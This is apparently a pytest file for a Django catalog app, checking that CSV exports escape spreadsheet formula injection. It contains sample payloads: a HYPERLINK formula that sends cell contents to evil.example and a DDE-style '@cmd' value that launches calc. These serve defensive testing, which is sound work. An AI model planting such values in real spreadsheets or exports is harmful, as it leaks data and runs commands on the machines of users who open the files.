"""A CSV export never hands a spreadsheet a formula: text people typed that starts with
=, +, -, @, a tab or a carriage return is written as text."""

from __future__ import annotations

import csv
import io

import pytest

from catalog.exports.models import Export
from catalog.exports.spreadsheet import safe_cell
from catalog.models import Product
from tests.catalog.exports.helpers import read_file, run_now

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555", "'+31 20 555"),
        ("-5% off", "'-5% off"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Mug = great", "Mug = great"),
        ("", ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(typed, written):
    assert safe_cell(typed) == written


def test_a_shopify_csv_escapes_a_formula_in_a_title_and_in_alt_text(make_photo, merchandiser):
    item = Product.objects.create(sku="EVIL-1", title=FORMULA, attributes={"alt_text": "@cmd|' /C calc'!A0"})
    make_photo(item, 1, profiles=("shopify",))

    export = run_now(Export.Kind.SHOPIFY_CSV, {"products": [item.pk]}, merchandiser)

    assert export.status == Export.Status.SUCCEEDED, export.error
    _, row = list(csv.reader(io.StringIO(read_file(export).decode("utf-8"), newline="")))
    assert row[1] == "'" + FORMULA
    assert row[4] == "'@cmd|' /C calc'!A0"
    assert row[2].startswith("http")  # URLs are left alone
